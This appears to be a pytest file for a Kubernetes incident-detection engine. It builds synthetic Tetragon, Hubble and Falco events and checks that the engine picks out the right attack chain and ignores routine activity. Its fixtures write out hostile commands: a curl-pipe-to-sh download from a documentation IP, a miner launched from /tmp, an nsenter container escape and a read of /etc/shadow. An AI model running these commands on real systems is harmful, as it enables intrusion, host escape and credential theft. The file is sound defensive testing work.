@@ -1,0 +1,228 @@
+"""Incidents the old cascade's tests (``tests/report/test_heuristics.py``) were built on, as
+Tetragon / Hubble / Falco export lines, asked of the new engine (``case.findings()``): each asserts
+the same answer (entry pod, node, key command; no incident on ordinary life)."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+import pytest
+
+import kernelsec_nb as kn
+
+NODE = "worker-2"
+POD = "shop-api-6f7d8c9b5-qwxyz"
+CID = "9b1f3c7d2e4a" + "0" * 52
+
+
+def _id(pid: int) -> str:
+    return base64.b64encode(f"{NODE}:{pid * 1000}:{pid}".encode()).decode()
+
+
+def _proc(pid: int, parent: int, binary: str, args: str, t: str, *, init: bool = True) -> dict:
+    return {"exec_id": _id(pid), "pid": pid, "uid": 0, "cwd": "/app", "binary": binary, "arguments": args,
+            "flags": "execve clone", "start_time": t, "parent_exec_id": _id(parent), "tid": pid,
+            "in_init_tree": init, "docker": CID[:31],
+            "pod": {"namespace": "shop", "name": POD, "workload": "shop-api",
+                    "container": {"id": "containerd://" + CID, "name": "api"}, "pod_labels": {"app": "api"}},
+            "cap": {"effective": ["CAP_NET_RAW"]}}
+
+
+def _exec(pid: int, parent: dict, binary: str, args: str, t: str) -> str:
+    proc = _proc(pid, parent["pid"], binary, args, t)
+    return json.dumps({"process_exec": {"process": proc, "parent": parent}, "node_name": NODE, "time": t})
+
+
+def _connect(proc: dict, parent: dict, sport: int, daddr: str, dport: int, t: str) -> str:
+    sock = {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": "10.0.2.7",
+            "daddr": daddr, "sport": sport, "dport": dport}
+    return json.dumps({"process_kprobe": {"process": proc, "parent": parent, "function_name": "tcp_connect",
+                                          "args": [{"sock_arg": sock}], "action": "KPROBE_ACTION_POST"},
+                       "node_name": NODE, "time": t})
+
+
+def _flow(sport: int, daddr: str, dport: int, verdict: str, t: str) -> str:
+    flow = {"time": t, "verdict": verdict, "IP": {"source": "10.0.2.7", "destination": daddr, "ipVersion": "IPv4"},
+            "l4": {"TCP": {"source_port": sport, "destination_port": dport, "flags": {"SYN": True}}},
+            "source": {"namespace": "shop", "pod_name": POD, "labels": ["k8s:app=api"]},
+            "destination": {"labels": ["reserved:world"]}, "Type": "L3_L4", "node_name": NODE,
+            "traffic_direction": "EGRESS", "is_reply": False}
+    if verdict == "DROPPED":
+        flow |= {"drop_reason_desc": "POLICY_DENIED"}
+    return json.dumps({"flow": flow, "node_name": NODE, "time": t})
+
+
+def _lines() -> list[str]:
+    server = _proc(10, 1, "/usr/local/bin/python3", "app.py", "2026-03-01T08:00:00Z")  # started before
+    parent_of = {k: server[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
+    sh = _proc(20, 10, "/bin/sh", "-c 'cd /tmp && curl -s http://203.0.113.9/x | sh'", "2026-03-01T10:00:00Z")
+    sh_ref = {k: sh[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
+    miner = _proc(30, 20, "/tmp/.x/kworker", "-o pool.example:3333", "2026-03-01T10:00:02Z")
+    health = _proc(40, 10, "/bin/sh", "-c 'wget -q -O- localhost:8080/health'", "2026-03-01T09:30:00Z")
+    lines = [
+        _connect(server, {"exec_id": _id(1)}, 8080, "10.0.9.9", 5432, "2026-03-01T09:00:00Z"),
+        _exec(40, parent_of, health["binary"], health["arguments"], health["start_time"]),  # routine
+        _exec(20, parent_of, sh["binary"], sh["arguments"], sh["start_time"]),
+        _exec(21, sh_ref, "/usr/bin/curl", "-s http://203.0.113.9/x", "2026-03-01T10:00:00.5Z"),
+        _connect(_proc(21, 20, "/usr/bin/curl", "-s http://203.0.113.9/x", "2026-03-01T10:00:00.5Z"), sh_ref,
+                 39000, "203.0.113.9", 80, "2026-03-01T10:00:00.6Z"),
+        _flow(39000, "203.0.113.9", 80, "FORWARDED", "2026-03-01T10:00:00.601Z"),
+        _exec(30, sh_ref, miner["binary"], miner["arguments"], miner["start_time"]),
+        _connect(miner, sh_ref, 39001, "198.51.100.7", 3333, "2026-03-01T10:00:03Z"),
+        _flow(39001, "198.51.100.7", 3333, "DROPPED", "2026-03-01T10:00:03.001Z"),
+        json.dumps({"hostname": NODE, "output": "Drop and execute new binary", "priority": "Critical",
+                    "rule": "Drop and execute new binary in container", "source": "syscall", "tags": [],
+                    "time": "2026-03-01T10:00:02.1Z",
+                    "output_fields": {"container.id": CID[:12], "proc.pid": 30, "proc.name": "kworker",
+                                      "proc.exepath": "/tmp/.x/kworker", "k8s.pod.name": POD,
+                                      "k8s.ns.name": "shop"}}),
+    ]
+    return lines
+
+
+def _case(tmp, lines: list[str]) -> kn.Case:
+    (tmp / "capture.json").write_text("\n".join(lines) + "\n")
+    c = kn.open_case(tmp / "case.duckdb")
+    report = c.load(tmp / "capture.json", progress=False)
+    assert report.total("quarantined") == 0
+    return c
+
+
+SHIM = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2", "arguments": "-id x"}
+
+
+def _ref(p: dict) -> dict:
+    return {k: p[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
+
+
+def _run(pid: int, parent: dict, binary: str, args: str, t: str, *, init: bool = False) -> tuple[dict, str]:
+    p = _proc(pid, parent["pid"], binary, args, t, init=init)
+    return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})
+
+
+def _sighting(sport: int, daddr: str, dport: int, verdict: str, t: str, node: str = NODE, dst_pod: str | None = None,
+              method: str | None = None) -> str:
+    line = json.loads(_flow(sport, daddr, dport, verdict, t))
+    f = line["flow"]
+    f["node_name"] = line["node_name"] = node
+    f["traffic_direction"] = "EGRESS" if node == NODE else "INGRESS"
+    if dst_pod:
+        f["destination"] = {"namespace": "shop", "pod_name": dst_pod, "labels": ["k8s:app=db"]}
+    if method:
+        f |= {"Type": "L7", "l7": {"type": "REQUEST", "http": {"method": method, "url": f"http://{daddr}/v1/all"}}}
+    return json.dumps(line)
+
+
+
+def _alert(pid: int, rule: str, t: str) -> str:
+    return json.dumps({"hostname": NODE, "output": rule, "priority": "Warning", "rule": rule, "source": "syscall",
+                       "tags": [], "time": t, "output_fields": {"container.id": CID[:12], "proc.pid": pid,
+                                                                "k8s.pod.name": POD, "k8s.ns.name": "shop"}})
+
+
+def _in_pod(line: str, pod: str, cid: str) -> str:
+    """An exec line of :func:`_run` moved to another pod and container (same workload)."""
+    ev = json.loads(line)
+    proc = ev["process_exec"]["process"]
+    proc["pod"] = {**proc["pod"], "name": pod, "container": {"id": "containerd://" + cid * 64, "name": "api"}}
+    proc["docker"] = (cid * 31)[:31]
+    return json.dumps(ev)
+
+
+def _critical(pid: int, rule: str, t: str, cid: str = CID[:12]) -> str:
+    line = json.loads(_alert(pid, rule, t))
+    line["priority"] = "Critical"
+    line["output_fields"]["container.id"] = cid
+    return json.dumps(line)
+
+
+
+def _findings(tmp, lines: list[str]) -> kn.Findings:
+    with _case(tmp, lines) as c:
+        return c.findings()
+
+
+def test_rce_the_shell_a_service_started_is_the_incident_and_the_payload_its_key_command(tmp_path):
+    f = _findings(tmp_path, _lines())
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert (i.namespace, i.pod, i.node) == ("shop", POD, NODE)
+    assert i.entry is not None and i.entry.exec_id == _id(20)
+    assert i.key_command is not None
+    assert (i.key_command.binary, i.key_command.args) == ("/tmp/.x/kworker", "-o pool.example:3333")
+    assert i.chain == [_id(20), _id(30)]
+    assert _id(40) not in i.chain  # the routine health check
+
+
+def test_rce_without_process_events_the_alerts_and_drops_name_the_pod_as_a_lead(tmp_path):
+    lines = [line.replace('"proc.name": "kworker"', '"proc.name": "kworker", "proc.cmdline": "kworker -o pool.example:3333"')
+             for line in _lines() if '"process_' not in line[:20]]
+    f = _findings(tmp_path, lines)
+    assert f.incidents == []  # no process: no key command
+    assert {(x.namespace, x.pod, x.node) for x in f.leads} == {("shop", POD, NODE)}
+
+
+@pytest.mark.parametrize("schema", ["new", "old"])
+def test_an_escape_through_nsenter_is_an_exec_incident(tmp_path, schema):
+    def proc(pid, parent, binary, args, t, init):
+        p = _proc(pid, parent, binary, args, t, init=init)
+        if schema == "old":
+            del p["in_init_tree"]
+        return p
+
+    def ref(p):
+        return {k: p[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
+
+    shim = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2", "arguments": "-id x"}
+    agent = proc(5, 2, "/usr/bin/agent", "--run", "2026-03-01T08:00:00Z", True)
+    sh = proc(50, 2, "/bin/sh", "", "2026-03-01T10:00:00Z", False)
+    nsenter = proc(51, 50, "/usr/bin/nsenter", "-t 1 -m -u -i -n -- /bin/bash", "2026-03-01T10:00:01Z", False)
+    bash = proc(52, 51, "/bin/bash", "", "2026-03-01T10:00:02Z", False)
+    cat = proc(53, 52, "/bin/cat", "/etc/shadow", "2026-03-01T10:00:03Z", False)
+    lines = [json.dumps({"process_exec": {"process": agent, "parent": shim}, "node_name": NODE, "time": agent["start_time"]})]
+    for p, parent in ((sh, shim), (nsenter, ref(sh)), (bash, ref(nsenter)), (cat, ref(bash))):
+        lines.append(json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": p["start_time"]}))
+    lines.append(json.dumps({"process_kprobe": {"process": cat, "parent": ref(bash), "function_name": "security_file_open",
+                                                "args": [{"file_arg": {"path": "/etc/shadow"}}]},
+                             "node_name": NODE, "time": "2026-03-01T10:00:03.1Z"}))
+    f = _findings(tmp_path, lines)
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert (i.pod, i.node) == (POD, NODE) and i.entry is not None and i.entry.exec_id == _id(50)
+    assert i.key_command is not None and i.key_command.binary == "/usr/bin/nsenter"
+
+
+def test_ordinary_life_is_not_an_incident(tmp_path):
+    def exec_line(pid, parent, binary, args, t, init):
+        p = _proc(pid, parent["pid"], binary, args, t, init=init)
+        return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})
+
+    shim = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2"}
+    agent, a = exec_line(5, shim, "/opt/agent/bin/agent", "run", "2026-03-01T08:00:00Z", True)
+    sh, b = exec_line(50, shim, "/bin/sh", "", "2026-03-01T09:00:00Z", False)
+    ls, c = exec_line(51, {"exec_id": sh["exec_id"], "pid": 50, "binary": "/bin/sh"}, "/bin/ls", "/etc",
+                      "2026-03-01T09:00:01Z", False)
+    runner, d = exec_line(60, agent, "/usr/bin/go", "test ./...", "2026-03-01T09:10:00Z", True)
+    test, e = exec_line(61, {"exec_id": runner["exec_id"], "pid": 60, "binary": "/usr/bin/go"},
+                        "/tmp/go-build123/b001/app.test", "-test.v", "2026-03-01T09:10:05Z", True)
+    noise = json.dumps({"hostname": NODE, "output": "Sensitive file opened", "priority": "Warning",
+                        "rule": "Read sensitive file untrusted", "source": "syscall", "tags": [],
+                        "time": "2026-03-01T08:30:00Z",
+                        "output_fields": {"container.id": CID[:12], "proc.pid": 5, "proc.name": "agent",
+                                          "k8s.pod.name": POD, "k8s.ns.name": "shop"}})
+    assert _findings(tmp_path, [a, b, c, d, e, noise]).incidents == []
+
+
+def test_a_rogue_containers_main_process_is_the_incident_and_its_own_key_command(tmp_path):
+    miner, a = _run(10, SHIM, "/usr/local/bin/metrics-helper", "--pool stratum+tcp://pool.example:4444",
+                    "2026-03-01T08:00:00Z", init=True)
+    _, b = _run(11, _ref(miner), "/bin/sh", "-c nproc", "2026-03-01T08:00:01Z", init=True)
+    lines = [a, b, _critical(10, "Detect outbound connections to common miner pool ports", "2026-03-01T08:00:02Z"),
+             _connect(miner, SHIM, 40000, "45.9.148.108", 4444, "2026-03-01T08:00:02Z")]
+    f = _findings(tmp_path, lines)
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert i.pod == POD and i.key_command is not None
+    assert (i.key_command.binary, i.key_command.args) == ("/usr/local/bin/metrics-helper",
+                                                          "--pool stratum+tcp://pool.example:4444")
